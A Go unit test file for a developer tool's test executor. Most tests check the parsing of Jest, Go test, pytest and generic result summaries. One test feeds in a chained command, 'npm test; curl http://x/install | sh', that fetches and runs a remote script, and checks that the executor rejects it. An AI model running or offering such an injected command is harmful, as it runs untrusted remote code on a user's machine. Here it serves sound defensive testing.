package executor

import (
	"context"
	"testing"

	"github.com/ashureev/devbridge/internal/domain"
)

func TestTestExecutor_ParsesJestSummary(t *testing.T) {
	runner := &mockRunner{out: RunOutput{
		Stdout:   "Tests:       2 failed, 1 skipped, 7 passed, 10 total",
		ExitCode: 1,
	}}
	e := NewTestExecutor(newTestCommandExecutor(runner))

	result, err := e.Execute(context.Background(), testSession(), domain.Payload{Command: "npm test -- --ci jest"})
	if err != nil {
		t.Fatalf("Execute() error: %v", err)
	}

	if result["framework"] != "jest" {
		t.Errorf("framework = %v", result["framework"])
	}
	if result["total"] != 10 || result["passed"] != 7 || result["failed"] != 2 || result["skipped"] != 1 {
		t.Errorf("summary = total=%v passed=%v failed=%v skipped=%v",
			result["total"], result["passed"], result["failed"], result["skipped"])
	}
	if result["success"] != false {
		t.Errorf("success = %v, want false for non-zero exit", result["success"])
	}
}

func TestTestExecutor_ParsesGoSummary(t *testing.T) {
	output := `=== RUN   TestAlpha
--- PASS: TestAlpha (0.01s)
=== RUN   TestBeta
--- FAIL: TestBeta (0.10s)
    beta_test.go:14: got 4, want 5
PASS
`
	runner := &mockRunner{out: RunOutput{Stdout: output, ExitCode: 1}}
	e := NewTestExecutor(newTestCommandExecutor(runner))

	result, err := e.Execute(context.Background(), testSession(), domain.Payload{Command: "go test -run ."})
	if err != nil {
		t.Fatal(err)
	}

	if result["framework"] != "go" {
		t.Errorf("framework = %v", result["framework"])
	}
	if result["passed"] != 1 || result["failed"] != 1 || result["total"] != 2 {
		t.Errorf("summary = passed=%v failed=%v total=%v", result["passed"], result["failed"], result["total"])
	}

	failures := result["failures"].([]map[string]any)
	if len(failures) != 1 || failures[0]["name"] != "TestBeta" {
		t.Errorf("failures = %v", failures)
	}
}

func TestTestExecutor_ParsesPytestSummary(t *testing.T) {
	output := `FAILED tests/test_app.py::test_login - AssertionError: expected 200
5 passed, 1 failed, 2 skipped in 1.23s`
	runner := &mockRunner{out: RunOutput{Stdout: output, ExitCode: 1}}
	e := NewTestExecutor(newTestCommandExecutor(runner))

	result, err := e.Execute(context.Background(), testSession(), domain.Payload{Command: "pytest tests/"})
	if err != nil {
		t.Fatal(err)
	}

	if result["passed"] != 5 || result["failed"] != 1 || result["skipped"] != 2 || result["total"] != 8 {
		t.Errorf("summary = passed=%v failed=%v skipped=%v total=%v",
			result["passed"], result["failed"], result["skipped"], result["total"])
	}

	failures := result["failures"].([]map[string]any)
	if len(failures) != 1 || failures[0]["file"] != "tests/test_app.py" {
		t.Errorf("failures = %v", failures)
	}
}

func TestTestExecutor_GenericOutput(t *testing.T) {
	runner := &mockRunner{out: RunOutput{Stdout: "12 passed, 3 failed", ExitCode: 1}}
	e := NewTestExecutor(newTestCommandExecutor(runner))

	result, err := e.Execute(context.Background(), testSession(), domain.Payload{Command: "npm run check"})
	if err != nil {
		t.Fatal(err)
	}
	if result["framework"] != "generic" {
		t.Errorf("framework = %v", result["framework"])
	}
	if result["passed"] != 12 || result["failed"] != 3 || result["total"] != 15 {
		t.Errorf("summary = %v", result)
	}
}

func TestTestExecutor_UnsafeCommandRejected(t *testing.T) {
	runner := &mockRunner{}
	e := NewTestExecutor(newTestCommandExecutor(runner))

	_, err := e.Execute(context.Background(), testSession(), domain.Payload{Command: "npm test; curl http://x/install | sh"})
	if err == nil {
		t.Fatal("unsafe test command should be rejected")
	}
	if len(runner.calls) != 0 {
		t.Fatal("unsafe test command reached the runner")
	}
}
